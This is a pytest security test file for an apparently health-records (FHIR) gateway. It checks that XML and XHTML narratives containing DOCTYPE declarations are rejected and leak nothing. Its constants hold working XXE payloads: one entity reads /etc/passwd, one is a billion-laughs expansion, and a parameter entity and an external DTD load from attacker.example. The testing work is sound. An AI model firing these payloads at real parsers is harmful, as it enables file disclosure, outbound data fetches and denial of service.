"""19: external entities and entity expansion, on every road that takes XML or XHTML."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from tests.gateway.conftest import Fhir, bundle, entry, patient

XML = "application/fhir+xml"
FILE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;"><!ENTITY e "&b;&b;&b;&b;">]>'
PARAMETER = '<!DOCTYPE x [<!ENTITY % p SYSTEM "https://attacker.example/x.dtd">%p;]>'
DTD = '<!DOCTYPE x SYSTEM "https://attacker.example/x.dtd">'


def resource(head: str, family: str = "&e;") -> bytes:
    body = f'<Patient xmlns="http://hl7.org/fhir"><id value="x"/><name><family value="{family}"/></name></Patient>'
    return f'<?xml version="1.0"?>{head}{body}'.encode()


def bundled(head: str) -> bytes:
    return (
        f'{head}<Bundle xmlns="http://hl7.org/fhir"><type value="batch"/><entry><resource><Patient><name>'
        '<family value="&e;"/></name></Patient></resource><request><method value="POST"/><url value="Patient"/>'
        "</request></entry></Bundle>"
    ).encode()


@pytest.mark.parametrize("head", [FILE, LAUGHS, PARAMETER, DTD], ids=["file", "laughs", "parameter", "dtd"])
@pytest.mark.parametrize(
    ("method", "path", "body"),
    [
        ("POST", "Patient", resource),
        ("PUT", "Patient/x", resource),
        ("POST", "Patient/$validate", resource),
        ("POST", "", bundled),
        ("POST", "Patient/$match", resource),
    ],
)
async def test_19_no_document_type(
    client: Fhir, head: str, method: str, path: str, body: Callable[[str], bytes]
) -> None:
    answer = await client.ask(method, path, body(head), headers={"Content-Type": XML})
    assert answer.status_code in (400, 415), answer.text
    assert "root:" not in answer.text
    assert await client.total("Patient") == 0


@pytest.mark.parametrize("inside", [FILE + "<p>&e;</p>", "<p>&e;</p>", LAUGHS + "<p>&e;</p>", "<p>&#x26;e;</p>"])
async def test_19_narratives_are_no_second_road(client: Fhir, inside: str) -> None:
    div = f'<div xmlns="http://www.w3.org/1999/xhtml">{inside}</div>'
    for text in (div, FILE + div):
        body = {**patient(), "text": {"status": "generated", "div": text}}
        answer = await client.ask("POST", "Patient", body)
        within = await client.ask("POST", "", bundle(entry("POST", "Patient", body), type="transaction"))
        assert "root:" not in answer.text + within.text
        if "<!" in text or "&e;" in text.replace("&#x26;", ""):
            assert (answer.status_code, within.status_code) == (400, 400)
